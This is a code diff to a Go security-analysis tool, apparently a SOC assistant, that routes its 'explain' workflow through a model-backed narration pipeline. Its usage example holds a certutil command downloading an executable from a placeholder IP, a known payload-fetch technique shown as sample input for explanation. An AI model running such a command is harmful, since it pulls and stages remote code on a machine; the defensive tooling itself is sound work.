@@ -10,7 +10,9 @@ import (
 	"github.com/casemate-ai/casemate"
 	"github.com/casemate-ai/casemate/internal/security/explain"
 	"github.com/casemate-ai/casemate/internal/security/intake"
+	"github.com/casemate-ai/casemate/internal/security/narrate"
 	"github.com/casemate-ai/casemate/internal/security/page"
+	"github.com/casemate-ai/casemate/internal/security/pipeline"
 )
 
 // maxExplain is how much is read to be explained.
@@ -23,11 +25,11 @@ type ExplainInput struct {
 
 func explainEntry() Workflow {
 	return entry(Workflow{
-		Name: "explain", Group: GroupSOC,
+		Name: "explain", Group: GroupSOC, Model: true,
 		Summary: "Explain anything pasted: a command line, a log line, an alert, an id, a hash, a URL.",
-		Help:    "Says what a text is, undoes its encodings, names the programs and options that it knows, and the ATT&CK techniques that it shows, each with the words that show it.",
+		Help:    "Says what a text is, undoes its encodings, names the programs and options that it knows, and the ATT&CK techniques that it shows, each with the words that show it. A model adds a few sentences, each with what it rests on.",
 		Example: "casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe'",
-		Output:  explain.Explanation{},
+		Output:  narrate.Output{},
 	}, runExplain)
 }
 
@@ -44,15 +46,23 @@ func runExplain(ctx context.Context, in *ExplainInput, env Env) (Result, error) 
 	if err != nil {
 		return Result{}, err
 	}
-	e, err := explain.Explain(ctx, input, explain.Options{Rules: rules.Engine})
+	run, err := pipeline.Start(env.Options)
 	if err != nil {
 		return Result{}, err
 	}
-	return Result{
-		Value:    e,
-		Text:     func(w io.Writer, o page.TerminalOptions) error { return explain.WriteText(w, e, o.Width, o.Color) },
-		Markdown: func(w io.Writer) error { return explain.WriteMarkdown(w, e) },
-	}, nil
+	out, err := narrate.Run(ctx, run, narrate.Input{Text: input, Rules: rules.Engine})
+	if err != nil {
+		return Result{}, err
+	}
+	p := narrate.Page(out)
+	r := Result{Value: out, Page: &p}
+	if env.Engine == nil { // the form for a terminal knows explanations better than a page does
+		r.Text = func(w io.Writer, o page.TerminalOptions) error {
+			return explain.WriteText(w, out.Explanation, o.Width, o.Color)
+		}
+		r.Markdown = func(w io.Writer) error { return explain.WriteMarkdown(w, out.Explanation) }
+	}
+	return r, nil
 }
 
 // text returns the text to explain: the arguments, a file that they name, or
